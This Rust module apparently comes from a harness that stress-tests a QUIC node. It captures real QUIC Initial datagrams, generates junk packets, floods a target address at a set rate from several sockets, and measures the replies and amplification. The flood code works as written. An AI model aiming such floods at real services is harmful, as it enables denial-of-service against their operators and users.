//! Attacks that are plain UDP datagrams: a flood of real QUIC Initials that
//! never continues (a spoofing attacker's), and random junk.
//!
//! Real Initials are made by a quinn client pointed at a socket of ours (a
//! sink): each `connect()` picks a fresh random destination connection ID,
//! so the first datagram of each attempt is a distinct, valid Initial
//! carrying a real ClientHello. The pool is made before the attack and each
//! datagram is sent once, from one of several source sockets.

use std::collections::HashSet;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use anyhow::{Context, Result, bail};
use quinn::crypto::rustls::QuicClientConfig;
use rand::{Rng, SeedableRng};
use serde::Serialize;
use tokio::net::UdpSocket;
use tokio::time::Instant;

/// What a datagram from the node is, by its first packet's header (RFC 9000
/// §17; QUIC v1 long-header type bits).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PacketClass {
    Initial,
    ZeroRtt,
    Handshake,
    Retry,
    VersionNegotiation,
    /// A short-header packet (1-RTT, or a stateless reset, which looks like one).
    Short,
    Empty,
}

pub fn classify(d: &[u8]) -> PacketClass {
    let Some(&b) = d.first() else {
        return PacketClass::Empty;
    };
    if b & 0x80 == 0 {
        return PacketClass::Short;
    }
    if d.len() >= 5 && d[1..5] == [0, 0, 0, 0] {
        return PacketClass::VersionNegotiation;
    }
    match (b & 0x30) >> 4 {
        0 => PacketClass::Initial,
        1 => PacketClass::ZeroRtt,
        2 => PacketClass::Handshake,
        _ => PacketClass::Retry,
    }
}

/// The destination connection ID of a long-header packet.
pub fn long_header_dcid(d: &[u8]) -> Option<&[u8]> {
    if d.first()? & 0x80 == 0 {
        return None;
    }
    let len = *d.get(5)? as usize;
    d.get(6..6 + len)
}

/// Makes `n` distinct Initial datagrams (see the module docs).
pub async fn capture_initials(
    n: usize,
    tls: Arc<QuicClientConfig>,
    server_name: &str,
) -> Result<Vec<Vec<u8>>> {
    // Small batches: the sink's default receive buffer holds about a
    // hundred 1200-byte datagrams.
    const BATCH: usize = 64;
    let mut pool = Vec::with_capacity(n);
    let mut seen: HashSet<Vec<u8>> = HashSet::with_capacity(n);
    let mut stalls = 0;
    while pool.len() < n {
        let want = (n - pool.len()).min(BATCH);
        let sink = UdpSocket::bind("127.0.0.1:0")
            .await
            .context("binding the Initial sink")?;
        let sink_addr = sink.local_addr()?;
        let mut ep = quinn::Endpoint::client("127.0.0.1:0".parse()?)
            .context("creating the quinn endpoint that makes Initials")?;
        ep.set_default_client_config(quinn::ClientConfig::new(tls.clone()));
        let mut attempts = Vec::with_capacity(want);
        for _ in 0..want {
            attempts.push(
                ep.connect(sink_addr, server_name)
                    .context("quinn connect (making an Initial)")?,
            );
        }
        let before = pool.len();
        let mut buf = vec![0u8; 2048];
        while pool.len() - before < want {
            match tokio::time::timeout(Duration::from_secs(2), sink.recv_from(&mut buf)).await {
                Ok(Ok((len, _))) => {
                    let d = &buf[..len];
                    if classify(d) != PacketClass::Initial {
                        continue;
                    }
                    if let Some(dcid) = long_header_dcid(d)
                        && seen.insert(dcid.to_vec())
                    {
                        pool.push(d.to_vec());
                    }
                }
                Ok(Err(e)) => return Err(e).context("reading the Initial sink"),
                Err(_) => break,
            }
        }
        drop(attempts);
        ep.close(0u32.into(), b"");
        if pool.len() == before {
            stalls += 1;
            if stalls >= 3 {
                bail!("quinn produced no Initial datagram in 3 attempts of 2 s");
            }
        }
    }
    Ok(pool)
}

/// Counters of what the node sent back to the attacker's sockets.
#[derive(Debug, Default)]
struct Back {
    datagrams: AtomicU64,
    bytes: AtomicU64,
    retry: AtomicU64,
    initial: AtomicU64,
    handshake: AtomicU64,
    version_negotiation: AtomicU64,
    short: AtomicU64,
    other: AtomicU64,
}

impl Back {
    fn record(&self, d: &[u8]) {
        self.datagrams.fetch_add(1, Ordering::Relaxed);
        self.bytes.fetch_add(d.len() as u64, Ordering::Relaxed);
        let c = match classify(d) {
            PacketClass::Retry => &self.retry,
            PacketClass::Initial => &self.initial,
            PacketClass::Handshake => &self.handshake,
            PacketClass::VersionNegotiation => &self.version_negotiation,
            PacketClass::Short => &self.short,
            PacketClass::ZeroRtt | PacketClass::Empty => &self.other,
        };
        c.fetch_add(1, Ordering::Relaxed);
    }
}

#[derive(Debug, Serialize)]
pub struct UdpReport {
    pub sent: u64,
    pub sent_bytes: u64,
    pub send_errors: u64,
    pub first_send_error: Option<String>,
    /// Sent per second of the attack window.
    pub send_rate: f64,
    pub back_datagrams: u64,
    pub back_bytes: u64,
    /// Bytes back ÷ bytes sent.
    pub amplification: f64,
    pub back_retry: u64,
    pub back_initial: u64,
    pub back_handshake: u64,
    pub back_version_negotiation: u64,
    pub back_short: u64,
    pub back_other: u64,
    pub source_sockets: usize,
    /// Distinct datagrams prepared (initial-flood: each a new connection attempt).
    pub pool: usize,
}

/// Sockets bound to `ips` (round-robin), `n` of them, on ephemeral ports.
async fn sockets(ips: &[IpAddr], n: usize) -> Result<Vec<Arc<UdpSocket>>> {
    let mut out = Vec::with_capacity(n);
    for i in 0..n.max(1) {
        let ip = ips[i % ips.len()];
        let s = UdpSocket::bind(SocketAddr::new(ip, 0))
            .await
            .with_context(|| format!("binding an attack socket on {ip}"))?;
        out.push(Arc::new(s));
    }
    Ok(out)
}

/// Sends `pool` datagrams at `rate` per second (cycling through the pool
/// when the window needs more) from `sources` sockets until `deadline`, and
/// counts what comes back until `end`.
pub async fn flood(
    target: SocketAddr,
    ips: &[IpAddr],
    sources: usize,
    rate: f64,
    pool: Vec<Vec<u8>>,
    deadline: Instant,
    end: Instant,
) -> Result<UdpReport> {
    if pool.is_empty() {
        bail!("nothing to send (empty datagram pool)");
    }
    let socks = sockets(ips, sources).await?;
    let back = Arc::new(Back::default());
    let mut readers = Vec::with_capacity(socks.len());
    for s in &socks {
        let s = Arc::clone(s);
        let back = Arc::clone(&back);
        readers.push(tokio::spawn(async move {
            let mut buf = vec![0u8; 65536];
            loop {
                tokio::select! {
                    _ = tokio::time::sleep_until(end) => break,
                    r = s.recv_from(&mut buf) => match r {
                        Ok((n, _)) => back.record(&buf[..n]),
                        // ICMP port unreachable and the like surface as
                        // errors on a UDP socket; they are not data.
                        Err(_) => continue,
                    },
                }
            }
        }));
    }
    let start = Instant::now();
    let (mut sent, mut bytes, mut errors) = (0u64, 0u64, 0u64);
    let mut first_error = None;
    let mut i = 0usize;
    while Instant::now() < deadline {
        let due = (start.elapsed().as_secs_f64() * rate) as u64;
        while sent + errors < due {
            let d = &pool[i % pool.len()];
            let s = &socks[i % socks.len()];
            i += 1;
            match s.try_send_to(d, target) {
                Ok(n) => {
                    sent += 1;
                    bytes += n as u64;
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    // The socket buffer is full: wait for room on this one.
                    if s.writable().await.is_err() {
                        errors += 1;
                    }
                    i -= 1;
                }
                Err(e) => {
                    errors += 1;
                    first_error.get_or_insert_with(|| e.to_string());
                }
            }
            if Instant::now() >= deadline {
                break;
            }
        }
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    let window = start.elapsed().as_secs_f64().max(1e-9);
    for r in readers {
        r.await.context("a reader task panicked")?;
    }
    let g = |a: &AtomicU64| a.load(Ordering::Relaxed);
    let back_bytes = g(&back.bytes);
    Ok(UdpReport {
        sent,
        sent_bytes: bytes,
        send_errors: errors,
        first_send_error: first_error,
        send_rate: sent as f64 / window,
        back_datagrams: g(&back.datagrams),
        back_bytes,
        amplification: back_bytes as f64 / (bytes.max(1)) as f64,
        back_retry: g(&back.retry),
        back_initial: g(&back.initial),
        back_handshake: g(&back.handshake),
        back_version_negotiation: g(&back.version_negotiation),
        back_short: g(&back.short),
        back_other: g(&back.other),
        source_sockets: socks.len(),
        pool: pool.len(),
    })
}

/// `n` random datagrams of 20..=1400 bytes; one in four looks like a QUIC v1
/// Initial (long header, fixed bit, type 0, version 1) with random rest.
pub fn junk_pool(n: usize, seed: u64) -> Vec<Vec<u8>> {
    let mut rng = rand::rngs::StdRng::seed_from_u64(seed);
    (0..n)
        .map(|i| {
            let len = rng.random_range(20..=1400);
            let mut d = vec![0u8; len];
            rng.fill(&mut d[..]);
            if i % 4 == 0 {
                d[0] = 0xc0 | (d[0] & 0x0f);
                d[1..5].copy_from_slice(&1u32.to_be_bytes());
            }
            d
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classifies_long_and_short_headers() {
        // QUIC v1 long header: 1 (form) 1 (fixed) TT (type) ....
        let v1 = [0, 0, 0, 1];
        let mk = |b0: u8| {
            let mut d = vec![b0];
            d.extend_from_slice(&v1);
            d.extend_from_slice(&[8, 1, 2, 3, 4, 5, 6, 7, 8, 0]);
            d
        };
        assert_eq!(classify(&mk(0xc3)), PacketClass::Initial);
        assert_eq!(classify(&mk(0xd0)), PacketClass::ZeroRtt);
        assert_eq!(classify(&mk(0xe1)), PacketClass::Handshake);
        assert_eq!(classify(&mk(0xf0)), PacketClass::Retry);
        assert_eq!(classify(&mk(0xff)), PacketClass::Retry);
        assert_eq!(classify(&[0x40, 1, 2, 3]), PacketClass::Short);
        assert_eq!(
            classify(&[0x80, 0, 0, 0, 0, 1]),
            PacketClass::VersionNegotiation
        );
        assert_eq!(classify(&[]), PacketClass::Empty);
        assert_eq!(
            long_header_dcid(&mk(0xc3)),
            Some(&[1, 2, 3, 4, 5, 6, 7, 8][..])
        );
        assert_eq!(long_header_dcid(&[0x40, 1, 2]), None);
        // A truncated header has no DCID.
        assert_eq!(long_header_dcid(&[0xc0, 0, 0, 0, 1, 20, 1]), None);
    }

    #[test]
    fn junk_sizes_and_initial_lookalikes() {
        let p = junk_pool(400, 7);
        assert!(p.iter().all(|d| (20..=1400).contains(&d.len())));
        let initials = p
            .iter()
            .filter(|d| classify(d) == PacketClass::Initial)
            .count();
        assert!(initials >= 100, "{initials}");
        assert_ne!(p[1], p[2]);
    }
}
